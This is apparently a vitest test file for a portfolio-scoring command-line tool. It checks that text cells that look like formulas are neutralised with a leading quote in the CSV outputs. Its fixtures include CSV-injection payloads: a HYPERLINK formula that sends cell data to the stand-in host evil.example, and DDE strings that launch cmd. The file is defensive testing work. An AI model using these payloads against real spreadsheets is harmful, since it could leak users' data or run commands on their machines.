/**
 * CSV formula injection (issue 27 item 3): text cells of a portfolio that a spreadsheet would run as a
 * formula (= + - @ TAB CR, after optional spaces) reach scores.csv, Oasis location.csv and errors.csv as
 * `'=...`, quoted, as OWASP recommends; plain numbers (-12.5, negative longitudes, OED amounts) stay
 * numbers, and scores.ndjson keeps the text exactly as read.
 */
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { cli, tempDir } from './helpers/cli.js';

const HEADER = 'PortNumber,AccNumber,LocNumber,LocName,StreetAddress,Latitude,Longitude,BuildingTIV,Deductible';
/** [LocName as written in the file, the value a spreadsheet must see]. */
const NAMES: [string, string][] = [
  ['"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
  ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
  ['-2+3', "'-2+3"],
  ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
  ['"\t=1+1"', "'\t=1+1"],
  ['  =1+1', "'  =1+1"],
  ['"\r=1+1"', "'\r=1+1"],
  ['-12.5', '-12.5'],
  ['+3', '+3'],
  ['Plain name', 'Plain name'],
];
const ROWS = NAMES.map(([name], i) => `1,A1,L${i + 1},${name},${i + 1} Main St,39.74,-104.99,250000,-1000`);
// A row with a formula where the latitude should be: an error row whose cells quote what the row held.
const BAD = '1,A1,=2+5,Bad row,1 Main St,=1+1,-104.99,250000,0';

/** A cell a spreadsheet would run: starts (after spaces) with = + - @ TAB CR and is not a plain number. */
const runs = (cell: string) => /^ *[=+\-@\t\r]/.test(cell) && !/^ *[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)? *$/.test(cell);

describe('CSV outputs neutralise would-be formulas in text cells', () => {
  let dir: string;
  let input: string;
  beforeAll(() => {
    dir = tempDir('catintel-formula-');
    input = path.join(dir, 'formulas.csv');
    fs.writeFileSync(input, [HEADER, ...ROWS, BAD].join('\n') + '\n');
  });

  const score = async (format: string) => {
    const out = path.join(dir, `out-${format}`);
    const r = await cli(['--json', 'score', '--input', input, '--out', out, '--format', format]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.json()).toMatchObject({ rows: NAMES.length + 1, scored: NAMES.length, errors: 1 });
    return out;
  };
  const table = (file: string): Record<string, string>[] => parse(fs.readFileSync(file), { columns: true });

  it('scores.csv: each formula name is prefixed with a quote, numbers stay numbers', async () => {
    const rows = table(path.join(await score('csv'), 'scores.csv'));
    expect(rows.map((r) => r.LocName)).toEqual(NAMES.map(([, seen]) => seen));
    expect(new Set(rows.map((r) => r.Longitude))).toEqual(new Set(['-104.99']));
    expect(new Set(rows.map((r) => r.Deductible))).toEqual(new Set(['-1000']));
    for (const r of rows)
      for (const [k, v] of Object.entries(r)) expect(runs(v), `${k}=${JSON.stringify(v)}`).toBe(false);
  });

  it('Oasis location.csv: the same, with every OED number as written', async () => {
    const rows = table(path.join(await score('oasis'), 'location.csv'));
    expect(rows.map((r) => r.LocName)).toEqual(NAMES.map(([, seen]) => seen));
    expect(rows.map((r) => r.LocNumber)).toEqual(NAMES.map((_, i) => `L${i + 1}`));
    expect(new Set(rows.map((r) => `${r.Latitude},${r.Longitude},${r.BuildingTIV},${r.FlexiLocDeductible}`))).toEqual(
      new Set(['39.74,-104.99,250000,-1000']),
    );
    for (const r of rows)
      for (const [k, v] of Object.entries(r)) expect(runs(v), `${k}=${JSON.stringify(v)}`).toBe(false);
  });

  it("errors.csv: the bad row's id and latitude are quoted text, not formulas", async () => {
    const errors = table(path.join(await score('csv'), 'errors.csv'));
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({
      LocNumber: "'=2+5",
      latitude: "'=1+1",
      longitude: '-104.99',
      kind: 'invalid_coordinates',
    });
    for (const [k, v] of Object.entries(errors[0])) expect(runs(v), `${k}=${JSON.stringify(v)}`).toBe(false);
  });

  it('scores.ndjson is JSON, not a spreadsheet: names exactly as read', async () => {
    const lines = fs
      .readFileSync(path.join(await score('json'), 'scores.ndjson'), 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    const read = parse([HEADER, ...ROWS].join('\n'), { columns: true, relax_quotes: true }) as Record<string, string>[];
    expect(lines.map((l) => l.LocName)).toEqual(read.map((r) => r.LocName));
  });
});
